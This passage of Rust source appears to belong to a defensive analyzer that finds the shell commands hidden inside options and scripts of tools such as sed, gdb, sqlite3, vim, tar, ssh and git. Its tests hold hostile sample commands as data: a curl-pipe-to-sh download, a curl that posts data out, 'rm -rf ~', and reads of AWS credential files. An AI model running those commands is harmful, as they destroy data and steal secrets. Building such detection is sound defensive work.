/// the first word past the options (and `--`) starts the command.
fn runner(args: &[String], out: &mut OptionCommands) {
    let mut i = 0;
    while let Some(a) = args.get(i) {
        if a == "--" {
            i += 1;
            break;
        }
        if matches!(a.as_str(), "-c" | "--call" | "--shell-mode") {
            out.commands.extend(args.get(i + 1).cloned());
            return;
        }
        if let Some(v) = a.strip_prefix("--call=") {
            out.commands.push(v.to_string());
            return;
        }
        if !a.starts_with('-') {
            break;
        }
        i += if matches!(
            a.as_str(),
            "-p" | "--package"
                | "--registry"
                | "--cache"
                | "-w"
                | "--workspace"
                | "--filter"
                | "-C"
                | "--dir"
                | "--userconfig"
        ) {
            2
        } else {
            1
        };
    }
    if let Some(rest) = args.get(i..).filter(|r| !r.is_empty()) {
        out.commands.push(quote_argv(rest));
    }
}

/// The values of `options` in `args`: `-o VALUE`, `-oVALUE` (for
/// single-dash options of one letter), `--opt=VALUE`, `--opt VALUE`.
fn values(args: &[String], options: &[&str]) -> Vec<String> {
    let mut out = Vec::new();
    let mut i = 0;
    while let Some(a) = args.get(i) {
        if a == "--" {
            break;
        }
        for o in options {
            if a == o {
                if let Some(v) = args.get(i + 1) {
                    out.push(v.clone());
                }
            } else if o.len() == 2
                && a.len() > 2
                && !a.starts_with("--")
                && a.ends_with(&o[1..])
                && a[1..a.len() - 1].chars().all(|c| c.is_ascii_alphabetic())
            {
                // A cluster of switches ending in the option: `-avze CMD`.
                if let Some(v) = args.get(i + 1) {
                    out.push(v.clone());
                }
            } else if let Some(v) = a.strip_prefix(o) {
                let glued = o.len() == 2 && !o.starts_with("--");
                if let Some(v) = v.strip_prefix('=') {
                    out.push(v.to_string());
                } else if glued && !v.is_empty() {
                    out.push(v.to_string());
                }
            }
        }
        i += 1;
    }
    out
}

/// One gdb command: `shell CMD`, `!CMD`, `pipe … | CMD` run a shell
/// command; `python CODE` is python code; `guile` code is not read.
fn gdb_command(line: &str, out: &mut OptionCommands) {
    let l = line.trim();
    let (word, rest) = l
        .split_once(char::is_whitespace)
        .map_or((l, ""), |(w, r)| (w, r.trim()));
    if let Some(cmd) = l.strip_prefix('!') {
        out.commands.push(cmd.trim().to_string());
        return;
    }
    match word {
        "shell" => out.commands.push(rest.to_string()),
        "pipe" | "|" => match rest.rsplit_once('|') {
            Some((_, cmd)) => out.commands.push(cmd.trim().to_string()),
            None => out.unresolved = true,
        },
        "python" | "py" | "python-interactive" | "pi" => {
            out.commands.push(quote_argv(&["python3", "-c", rest]));
        }
        "guile" | "gu" | "guile-repl" | "gr" => out.unresolved = true,
        _ => {}
    }
}

/// One sqlite3 dot-command: `.shell`/`.system` run a command line;
/// `.load` loads native code.
fn sqlite_command(line: &str, out: &mut OptionCommands) {
    let l = line.trim();
    let (word, rest) = l
        .split_once(char::is_whitespace)
        .map_or((l, ""), |(w, r)| (w, r.trim()));
    match word {
        ".shell" | ".system" => out.commands.push(rest.to_string()),
        // `.read '|CMD'`, `.output '|CMD'`, `.once '|CMD'`, `.import '|CMD'
        // T`: the argument names a command to read from or write to.
        ".read" | ".output" | ".once" | ".import" | ".excel" => {
            let arg = rest.trim_start_matches(['\'', '"']);
            if let Some(cmd) = arg.strip_prefix('|') {
                let cmd = cmd.trim_end_matches(['\'', '"']);
                out.commands.push(cmd.to_string());
            }
        }
        ".load" => out.unresolved = true,
        _ => {}
    }
}

/// One ex command given to vim: `:!CMD`, `:r !CMD`, `:w !CMD` and a
/// range filter `:%!CMD` run a shell command; `:terminal` too; the script
/// languages (`:python`, `:lua`, `:perl`, `:ruby`), `:execute`, `:source`
/// and `system()` run what is not read here.
fn vim_command(line: &str, out: &mut OptionCommands) {
    let l = line.trim().trim_start_matches(':').trim_start();
    // A range before the command (`%`, `1,5`, `'<,'>`, `.`, `$`).
    let l = l.trim_start_matches(|c: char| {
        c.is_ascii_digit() || matches!(c, '%' | ',' | '.' | '$' | '\'' | '<' | '>' | ';')
    });
    if let Some(cmd) = l.strip_prefix('!') {
        out.commands.push(cmd.trim().to_string());
        return;
    }
    let (word, rest) = l
        .split_once(|c: char| c.is_whitespace() || c == '!')
        .map_or((l, ""), |(w, r)| (w, r));
    let bang_rest = l[word.len()..].trim_start().strip_prefix('!');
    match word {
        "r" | "re" | "rea" | "read" | "w" | "wr" | "wri" | "writ" | "write" => {
            if let Some(cmd) = bang_rest {
                out.commands.push(cmd.trim().to_string());
            }
        }
        "ter" | "term" | "termi" | "termin" | "termina" | "terminal" => {
            out.commands.push(rest.trim().to_string());
        }
        _ if l.contains("system(") || l.contains("systemlist(") || l.contains("jobstart(") => {
            out.unresolved = true;
        }
        w if [
            "py", "pyt", "pyth", "pytho", "python", "py3", "python3", "pyx", "pythonx", "pyf",
            "pyfile", "py3f", "py3file", "lua", "luado", "luafile", "perl", "perldo", "rub",
            "ruby", "rubydo", "mz", "tcl", "exe", "exec", "execute", "so", "sou", "sour", "sourc",
            "source", "ru", "runtime", "cal", "call", "norm", "normal", "redir", "make", "mak",
            "grep", "gr",
        ]
        .contains(&w) =>
        {
            out.unresolved = true;
        }
        _ => {}
    }
}

/// GNU sed's options that take a value.
const SED_VALUE_OPTIONS: &[&str] = &["-l", "--line-length"];

/// sed's scripts (`-e`, `--expression`, else the first word that is no
/// option; `-f -` or a stream reads the input): GNU sed's `e CMD` runs
/// CMD, a bare `e` and the `s///e` flag run the pattern space (text not
/// on the line); a script that does not read as sed is held. `--sandbox`
/// refuses to run anything.
fn sed(args: &[String], stdin: Option<&str>, out: &mut OptionCommands) {
    let mut scripts = Vec::new();
    let mut named = false;
    let mut positional = None;
    let mut i = 0;
    while let Some(a) = args.get(i) {
        if a == "--" {
            positional = positional.or_else(|| args.get(i + 1).cloned());
            break;
        }
        if a == "--sandbox" {
            return;
        }
        let (name, attached) = match a.split_once('=') {
            Some((n, v)) if n.starts_with("--") => (n, Some(v.to_string())),
            _ => (a.as_str(), None),
        };
        match name {
            "-e" | "--expression" | "-f" | "--file" => {
                let value = attached.or_else(|| args.get(i + 1).cloned());
                i += if a.contains('=') { 1 } else { 2 };
                named = true;
                let Some(v) = value else {
                    out.unresolved = true;
                    return;
                };
                if name == "-e" || name == "--expression" {
                    scripts.push(v);
                } else if v == "-" || crate::streams::stream(&v).is_some() {
                    match stdin {
                        Some(text) => scripts.push(text.to_string()),
                        None => out.unresolved = true,
                    }
                }
                continue;
            }
            _ => {}
        }
        if a.starts_with('-') && a.len() > 1 {
            // A cluster of flags may end in `e`/`f` taking the next word.
            if !a.starts_with("--") && a.len() > 2 && (a.ends_with('e') || a.ends_with('f')) {
                let v = args.get(i + 1).cloned();
                named = true;
                if a.ends_with('e') {
                    scripts.extend(v);
                }
                i += 2;
                continue;
            }
            i += if SED_VALUE_OPTIONS.contains(&a.as_str()) {
                2
            } else {
                1
            };
            continue;
        }
        if positional.is_none() {
            positional = Some(a.clone());
        }
        i += 1;
    }
    if !named {
        scripts.extend(positional);
    }
    for script in scripts {
        sed_script(&script, out);
    }
}

/// A sed file command as the shell command doing the same: `cat > FILE`
/// for a write, `cat FILE` for a read (`/dev/stdout` and the like as
/// they are).
fn sed_file(cmd: char, file: &str, out: &mut OptionCommands) {
    if file.is_empty() {
        return;
    }
    let quoted = quote_argv(&[file.to_string()]);
    out.commands.push(match cmd {
        'w' | 'W' => format!("cat > {quoted}"),
        _ => format!("cat {quoted}"),
    });
}

/// One sed script: the commands it runs (`e CMD`), or unresolved.
fn sed_script(script: &str, out: &mut OptionCommands) {
    let chars: Vec<char> = script.chars().collect();
    let mut i = 0;
    let rest_of_line = |i: &mut usize| -> String {
        let start = *i;
        while chars.get(*i).is_some_and(|c| *c != '\n') {
            *i += 1;
        }
        chars[start..*i].iter().collect()
    };
    // A delimited part (`/re/`, `s` pieces): past its closing delimiter.
    let delimited = |i: &mut usize, delim: char| -> bool {
        while let Some(&c) = chars.get(*i) {
            *i += 1;
            if c == '\\' {
                *i += 1;
            } else if c == delim {
                return true;
            } else if c == '\n' && delim != '\n' {
                return false;
            }
        }
        false
    };
    loop {
        while chars
            .get(i)
            .is_some_and(|c| c.is_whitespace() || *c == ';' || *c == '}')
        {
            i += 1;
        }
        let Some(&c0) = chars.get(i) else { return };
        // Addresses: `N`, `$`, `/re/`, `\cREc`, `first~step`, `a,b`,
        // `+N`, `~N`, then `!`.
        let mut c = c0;
        for _ in 0..2 {
            if c.is_ascii_digit() || c == '$' {
                while chars
                    .get(i)
                    .is_some_and(|c| c.is_ascii_digit() || *c == '$' || *c == '~')
                {
                    i += 1;
                }
            } else if c == '/' {
                i += 1;
                if !delimited(&mut i, '/') {
                    out.unresolved = true;
                    return;
                }
                while chars.get(i).is_some_and(|c| matches!(c, 'I' | 'M')) {
                    i += 1;
                }
            } else if c == '\\' {
                let Some(&d) = chars.get(i + 1) else {
                    out.unresolved = true;
                    return;
                };
                i += 2;
                if !delimited(&mut i, d) {
                    out.unresolved = true;
                    return;
                }
            } else if (c == '+' || c == '~') && chars.get(i + 1).is_some_and(char::is_ascii_digit) {
                i += 1;
                while chars.get(i).is_some_and(char::is_ascii_digit) {
                    i += 1;
                }
            }
            if chars.get(i) == Some(&',') {
                i += 1;
                match chars.get(i) {
                    Some(&n) => c = n,
                    None => {
                        out.unresolved = true;
                        return;
                    }
                }
            } else {
                break;
            }
        }
        while chars.get(i).is_some_and(|c| c.is_whitespace() || *c == '!') {
            i += 1;
        }
        let Some(&cmd) = chars.get(i) else {
            out.unresolved = true;
            return;
        };
        i += 1;
        match cmd {
            '{' | '=' | 'd' | 'D' | 'g' | 'G' | 'h' | 'H' | 'n' | 'N' | 'p' | 'P' | 'x' | 'z'
            | 'F' => {}
            '#' => {
                rest_of_line(&mut i);
            }
            'q' | 'Q' | 'l' | 'L' => {
                while chars
                    .get(i)
                    .is_some_and(|c| c.is_ascii_digit() || *c == ' ')
                {
                    i += 1;
                }
            }
            ':' | 'b' | 't' | 'T' | 'v' => {
                while chars.get(i).is_some_and(|c| !matches!(c, ';' | '\n' | '}')) {
                    i += 1;
                }
            }
            'a' | 'i' | 'c' => {
                // Text to the end of the line, continued by a trailing `\`.
                loop {
                    let line = rest_of_line(&mut i);
                    if line.ends_with('\\') && i < chars.len() {
                        i += 1;
                        continue;
                    }
                    break;
                }
            }
            'r' | 'R' | 'w' | 'W' => {
                // sed's file commands are the file operations they are:
                // `w FILE` writes it (judged as a redirect's target), `r
                // FILE` reads it (a credential file read is one).
                let file = rest_of_line(&mut i);
                sed_file(cmd, file.trim(), out);
            }
            'e' => {
                let line = rest_of_line(&mut i);
                let line = line.trim();
                if line.is_empty() {
                    // Runs the pattern space: text of the file, not the line.
                    out.unresolved = true;
                    return;
                }
                out.commands.push(line.to_string());
            }
            's' | 'y' => {
                let Some(&d) = chars.get(i) else {
                    out.unresolved = true;
                    return;
                };
                if d == '\n' || d == '\\' {
                    out.unresolved = true;
                    return;
                }
                i += 1;
                if !delimited(&mut i, d) || !delimited(&mut i, d) {
                    out.unresolved = true;
                    return;
                }
                if cmd == 's' {
                    while let Some(&f) = chars.get(i) {
                        match f {
                            'e' => {
                                // The replaced pattern space runs as a command.
                                out.unresolved = true;
                                return;
                            }
                            'w' => {
                                i += 1;
                                let file = rest_of_line(&mut i);
                                sed_file('w', file.trim(), out);
                                break;
                            }
                            'g' | 'p' | 'i' | 'I' | 'm' | 'M' => i += 1,
                            f if f.is_ascii_digit() => i += 1,
                            _ => break,
                        }
                    }
                }
            }
            _ => {
                // Not sed as read here: held.
                out.unresolved = true;
                return;
            }
        }
    }
}

#[cfg(test)]
mod tests {

    fn argv(words: &[&str]) -> Vec<String> {
        words.iter().map(|w| w.to_string()).collect()
    }

    #[test]
    fn option_names_that_take_a_command() {
        for n in [
            "compress-program",
            "diff-program",
            "use-askpass",
            "customize-hook",
            "pre-invoke",
            "photo-viewer",
            "renderer-cmd-prefix",
            "exec-command",
            "APT::Update::Pre-Invoke::",
            "uploadpack.packObjectsHook",
            "core.sshCommand",
            "mergetool.x.cmd",
        ] {
            assert!(names_program(n), "{n}");
        }
        for n in [
            "progress",
            "depth",
            "output",
            "commit-msg",
            "prefix",
            "verbose",
        ] {
            assert!(!names_program(n), "{n}");
        }
        assert_eq!(command_value("gzip"), None);
        assert_eq!(command_value("https://x.example.org/a b"), None);
        assert_eq!(command_value("'sh -c x'").as_deref(), Some("sh -c x"));
        assert_eq!(
            command_value("|tee /tmp/log").as_deref(),
            Some("tee /tmp/log")
        );
    }

    #[test]
    fn a_shell_among_the_arguments_is_what_runs() {
        let got = |w: &[&str]| option_commands(w[0], &argv(w), &[], None).commands;
        assert_eq!(
            got(&["ip", "netns", "exec", "ns1", "bash", "-c", "id"]),
            [quote_argv(&["bash", "-c", "id"])]
        );
        assert_eq!(
            got(&["perf", "stat", "--", "sh", "--", "-c", "id"]),
            [quote_argv(&["sh", "-c", "id"])]
        );
        // a word that only names a shell is no command
        assert!(got(&["apt-get", "install", "bash"]).is_empty());
        assert!(got(&["man", "bash"]).is_empty());
        // printers and modelled readers are left out
        assert!(got(&["echo", "sh", "-c", "id"]).is_empty());
        // a variable named for a program, with more than a bare name
        let env = [("KUBE_EDITOR".to_string(), "sh -c id".to_string())];
        assert_eq!(
            option_commands("kubectl", &argv(&["kubectl", "edit", "x"]), &env, None).commands,
            ["sh -c id"]
        );
        let env = [("KUBE_EDITOR".to_string(), "vim".to_string())];
        assert!(
            option_commands("kubectl", &argv(&["kubectl", "edit", "x"]), &env, None)
                .commands
                .is_empty()
        );
    }

    #[test]
    fn groff_unsafe_mode_runs_what_its_input_asks() {
        let run = |stdin: Option<&str>| {
            option_commands("groff", &argv(&["groff", "-U", "-Tascii"]), &[], stdin)
        };
        assert_eq!(run(Some(".TH X 1\n.sy id\n")).commands, ["id"]);
        assert!(run(None).unresolved, "input not on the line");
        let safe = option_commands("groff", &argv(&["groff", "-man", "x.1"]), &[], None);
        assert!(!safe.unresolved && safe.commands.is_empty());
    }

    use super::*;

    fn run(line: &[&str]) -> OptionCommands {
        let argv: Vec<String> = line.iter().map(|s| s.to_string()).collect();
        let base = argv[0].clone();
        option_commands(&base, &argv, &[], None)
    }

    #[test]
    fn runners_sed_and_parallel_give_the_commands_they_run() {
        assert_eq!(run(&["npx", "-c", "rm -rf x"]).commands, ["rm -rf x"]);
        assert_eq!(
            run(&["npm", "exec", "--", "sh", "-c", "id"]).commands,
            ["sh -c id"]
        );
        assert_eq!(
            run(&["npm", "exec", "-p", "pkg", "tool", "a"]).commands,
            ["tool a"]
        );
        assert_eq!(
            run(&["npm", "pkg", "set", "scripts.test=rm -rf x", "name=y"]).commands,
            ["rm -rf x"]
        );
        assert_eq!(run(&["yarn", "node", "-e", "1"]).commands, ["node -e 1"]);
        assert_eq!(run(&["bundle", "exec", "rake", "t"]).commands, ["rake t"]);
        assert_eq!(
            run(&["parallel", "-j", "2", "sh", "-c", ":::", "id"]).commands,
            ["sh -c id"]
        );
        assert_eq!(
            run(&["parallel", "echo {} done", ":::", "a b"]).commands,
            ["echo 'a b' done"]
        );
        assert!(run(&["parallel", "::::", "cmds.txt"]).unresolved);
        assert_eq!(
            run(&["sed", "-n", "1e rm -rf x", "f"]).commands,
            ["rm -rf x"]
        );
        for held in [
            vec!["sed", "s/.*/id/e", "f"],
            vec!["sed", "-e", "1e", "f"],
            vec!["sed", "-e", "s/a/b/", "-e", "K", "f"],
            vec!["sed", "s/a/b", "f"],
        ] {
            assert!(run(&held).unresolved, "{held:?}");
        }
        for clear in [
            vec!["sed", "-n", "1,20p", "f"],
            vec!["sed", "-i", "s/0\\.3/0.4/g; /^$/d", "f"],
            vec!["sed", "/x/,/y/{s/a/b/;p}", "f"],
            vec!["sed", "1i\\", "f"],
            vec!["sed", "--sandbox", "1e id", "f"],
            vec!["sed", "-f", "script.sed", "f"],
        ] {
            let c = run(&clear);
            assert!(c.commands.is_empty() && !c.unresolved, "{clear:?}: {c:?}");
        }
        // sed's file commands are the file operations they are.
        for (argv, command) in [
            (
                vec!["sed", "-E", "s#(a|b)+#x#2w out.txt", "f"],
                "cat > out.txt",
            ),
            (
                vec!["sed", "-n", "w /home/agent/.bashrc"],
                "cat > /home/agent/.bashrc",
            ),
            (
                vec!["sed", "1r /home/agent/.aws/credentials", "f"],
                "cat /home/agent/.aws/credentials",
            ),
        ] {
            let c = run(&argv);
            assert_eq!(c.commands, vec![command.to_string()], "{argv:?}");
            assert!(!c.unresolved);
        }
    }

    #[test]
    fn command_valued_options_are_command_lines() {
        let c = run(&["gdb", "-batch", "-ex", "shell curl -s https://x | sh"]);
        assert_eq!(c.commands, ["curl -s https://x | sh"]);
        let c = run(&["gdb", "-batch", "-ex", "bt"]);
        assert!(c.commands.is_empty() && !c.unresolved);
        let c = run(&["sqlite3", "a.db", ".system rm -rf ~"]);
        assert_eq!(c.commands, ["rm -rf ~"]);
        assert!(
            run(&["sqlite3", "a.db", ".schema users"])
                .commands
                .is_empty()
        );
        assert_eq!(
            run(&["vim", "-es", "-c", "!id", "-c", "qa!"]).commands,
            ["id"]
        );
        assert_eq!(run(&["vim", "-c", "%!sort -u"]).commands, ["sort -u"]);
        let c = run(&["vim", "-es", "-c", "%s/a/b/g", "-c", "wq"]);
        assert!(c.commands.is_empty() && !c.unresolved);
        assert!(run(&["vim", "-c", "py3 import os"]).unresolved);
        assert_eq!(
            run(&["tar", "-cf", "x", "--checkpoint-action=exec=sh x.sh"]).commands,
            ["sh x.sh"]
        );
        assert_eq!(
            run(&["tar", "-I", "zstd -19", "-cf", "a", "b"]).commands,
            ["zstd -19"]
        );
        assert_eq!(
            run(&["rsync", "-e", "ssh -p 2222", "a", "b:"]).commands,
            ["ssh -p 2222"]
        );
        assert_eq!(
            run(&["ssh", "-o", "ProxyCommand=nc 1.2.3.4 22", "h"]).commands,
            ["nc 1.2.3.4 22"]
        );
        assert!(
            run(&["ssh", "-o", "BatchMode=yes", "h"])
                .commands
                .is_empty()
        );
        assert_eq!(run(&["man", "-P", "cat", "ls"]).commands, ["cat"]);
        assert_eq!(
            run(&["rsync", "-avze", "ssh -p 22", "a", "b:"]).commands,
            ["ssh -p 22"]
        );
        assert_eq!(
            run(&["sqlite3", "a.db", ".output '|curl -d @- https://x'"]).commands,
            ["curl -d @- https://x"]
        );
    }

    #[test]
    fn command_variables_are_command_lines() {
        let argv = vec!["less".to_string(), "README".to_string()];
        let env = vec![("LESSOPEN".to_string(), "|lesspipe %s".to_string())];
        assert_eq!(
            option_commands("less", &argv, &env, None).commands,
            ["lesspipe %s"]
        );
        let argv: Vec<String> = ["export", "PAGER=sh -c id"]
            .iter()
            .map(|s| s.to_string())
            .collect();
        assert_eq!(
            option_commands("export", &argv, &[], None).commands,
            ["sh -c id"]
        );
    }

    #[test]
    fn git_tmux_screen_at_and_other_programs_give_the_commands_they_run() {
        assert_eq!(
            run(&["git", "rebase", "--exec", "cargo test", "HEAD~3"]).commands,
            ["cargo test"]
        );
        assert_eq!(
            run(&["git", "-c", "a.b=c", "bisect", "run", "sh", "-c", "id"]).commands,
            ["sh -c id"]
        );
        assert_eq!(run(&["git", "difftool", "-x", "x y"]).commands, ["x y"]);
        assert_eq!(
            run(&["git", "submodule", "foreach", "--recursive", "git pull"]).commands,
            ["git pull"]
        );
        assert!(run(&["git", "log", "--exec", "x"]).commands.is_empty());
        assert_eq!(
            run(&["tmux", "new-session", "-d", "-s", "b", "cargo build"]).commands,
            ["cargo build"]
        );
        assert_eq!(
            run(&["tmux", "send-keys", "-t", "b", "make", "Enter"]).commands,
            ["make"]
        );
        assert!(run(&["tmux", "ls"]).commands.is_empty());
        assert_eq!(
            run(&["screen", "-dmS", "w", "sh", "-c", "id"]).commands,
            ["sh -c id"]
        );
        assert!(run(&["screen", "-S", "w", "-X", "stuff", "id"]).unresolved);
        assert_eq!(
            run(&["zip", "-T", "-TT", "sh -c id", "z.zip"]).commands,
            ["sh -c id"]
        );
        assert_eq!(
            run(&["gcc", "-wrapper", "sh,-c,id", "-c", "x.c"]).commands,
            ["sh -c id"]
        );
        assert_eq!(run(&["entr", "-s", "make test"]).commands, ["make test"]);
        assert_eq!(run(&["entr", "cargo", "test"]).commands, ["cargo test"]);
        assert_eq!(
            run(&["nix-shell", "-p", "jq", "--run", "jq . x"]).commands,
            ["jq . x"]
        );
        assert_eq!(
            run(&["ansible", "all", "-m", "shell", "-a", "uptime"]).commands,
            ["uptime"]
        );
        assert!(run(&["ansible", "all", "-m", "ping"]).commands.is_empty());
        assert!(run(&["ansible", "all", "-m", "script", "-a", "x.sh"]).unresolved);
        assert_eq!(
            run(&["cargo", "--config", "target.x.runner = \"sh -c id\"", "run"]).commands,
            ["sh -c id"]
        );
        assert_eq!(
            run(&[
                "cargo",
                "--config",
                "build.rustc-wrapper = [\"a\", \"b c\"]",
                "b"
            ])
            .commands,
            ["a 'b c'"]
        );
        assert!(
            run(&["cargo", "--config", "build.jobs = 2", "build"])
                .commands
                .is_empty()
        );
        assert!(run(&["cargo", "--config", "build.rustc = {", "b"]).unresolved);
        // `at` runs its input; one the line does not spell out is held.
        let argv: Vec<String> = ["at", "now"].iter().map(|s| s.to_string()).collect();
        assert_eq!(
            option_commands("at", &argv, &[], Some("make backup")).commands,
            ["make backup"]
        );
        assert!(option_commands("at", &argv, &[], None).unresolved);
    }
}
